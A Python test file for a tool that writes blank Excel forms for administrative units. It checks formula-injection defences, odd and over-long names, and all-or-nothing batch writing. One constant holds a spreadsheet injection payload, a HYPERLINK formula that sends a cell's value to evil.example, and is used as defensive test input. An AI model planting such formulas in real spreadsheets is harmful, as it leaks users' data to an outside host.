"""Writing blank forms: text is never a formula, odd names are handled, `template --all` is all or nothing."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from dxnb import forms
from dxnb.cli import main
from dxnb.dataset import load_dataset
from dxnb.formreader import read_form
from dxnb.forms import DISTRICT_CELL, NAME_CELL, PROVINCE_CELL, VALUES_SHEET, write_template, write_templates

VINH_HOA = "25882"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&C3,"Bấm vào đây")'


def set_unit(folder: Path, code: str, **fields: str) -> None:
    path = folder / "units.csv"
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        if row["code"] == code:
            row.update(fields)
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{cell.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for cell in row
            if cell.data_type == "f"]


def test_template_text_is_never_a_formula(data_copy, tmp_path):
    set_unit(data_copy, VINH_HOA, district=HOSTILE, province="+SUM(1;2)", name="@Vĩnh Hòa")
    path = write_template(load_dataset(data_copy), VINH_HOA, "2024", tmp_path / "f.xlsx")
    assert formula_cells(path) == []
    ws = openpyxl.load_workbook(path)[VALUES_SHEET]
    assert ws[DISTRICT_CELL].value == HOSTILE and ws[DISTRICT_CELL].data_type == "s"
    assert ws[DISTRICT_CELL].quotePrefix  # Excel shows the text and keeps it text when edited
    assert ws[PROVINCE_CELL].value == "+SUM(1;2)"
    form, problems = read_form(path, load_dataset(data_copy))  # and the form still reads back
    assert form is not None and not [p for p in problems if p.is_error]


def test_vertical_tab_in_a_name(data_copy, tmp_path, capsys):
    set_unit(data_copy, VINH_HOA, name="Vĩnh\vHòa")
    out = tmp_path / "f.xlsx"
    assert main(["template", "--unit", VINH_HOA, "--period", "2024", "--data", str(data_copy), "-o", str(out)]) == 0
    assert "Vĩnh Hòa" in openpyxl.load_workbook(out)[VALUES_SHEET][NAME_CELL].value


def test_long_unit_name_all_forms_written(data_copy, tmp_path):
    set_unit(data_copy, VINH_HOA, name="Vĩnh Hòa " * 33)  # about 300 characters
    dataset = load_dataset(data_copy)
    paths = write_templates(dataset, list(dataset.at("2024").units.index), "2024", tmp_path / "forms")
    assert len(paths) == len(dataset.at("2024").units) and all(p.is_file() for p in paths)
    assert all(len(p.name.encode()) <= 120 for p in paths)
    mine = next(p for p in paths if p.name.startswith(VINH_HOA))
    assert mine.name.startswith(f"{VINH_HOA}-vinh-hoa-vinh-hoa") and mine.name.endswith("-2024.xlsx")


def test_template_all_is_all_or_nothing(data_copy, tmp_path, monkeypatch):
    dataset = load_dataset(data_copy)
    real = forms.write_temporary
    written = []

    def flaky(target, data, mode=None):
        if len(written) == 5:
            raise OSError(28, "No space left on device")
        written.append(target)
        return real(target, data, mode)

    monkeypatch.setattr(forms, "write_temporary", flaky)
    out = tmp_path / "forms"
    with pytest.raises(OSError):
        write_templates(dataset, list(dataset.at("2024").units.index), "2024", out)
    assert len(written) == 5
    assert sorted(p.name for p in out.iterdir()) == []  # no form, no temporary


def test_too_long_output_name_refused(data_copy, tmp_path, capsys):
    out = tmp_path / ("x" * 300 + ".xlsx")
    assert main(["template", "--unit", VINH_HOA, "--period", "2025", "--data", str(data_copy), "-o", str(out)]) == 2
    assert "255" in capsys.readouterr().err
